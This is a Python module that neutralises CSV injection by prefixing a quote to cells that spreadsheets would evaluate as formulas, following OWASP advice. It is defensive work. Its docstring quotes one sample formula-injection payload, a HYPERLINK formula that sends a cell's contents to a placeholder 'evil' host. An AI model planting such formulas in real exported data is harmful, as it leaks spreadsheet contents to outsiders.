"""CSV cells a spreadsheet will not run as formulas (CSV injection, OWASP).

Article text and model output end up in CSV cells. A cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("http://evil/?"&A1, "click")``). Following OWASP's advice, such a cell gets a
leading single quote, which spreadsheets show as text; the csv module's quoting handles the
rest (commas, quotes, newlines). Numbers are left alone: ``-3`` as an int is a number, not a
formula. Every CSV table summariser writes goes through :func:`safe_cell`.
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_PREFIXES", "safe_cell", "safe_row"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: a string a spreadsheet would evaluate gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Any) -> list[Any]:
    """Every cell of one row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
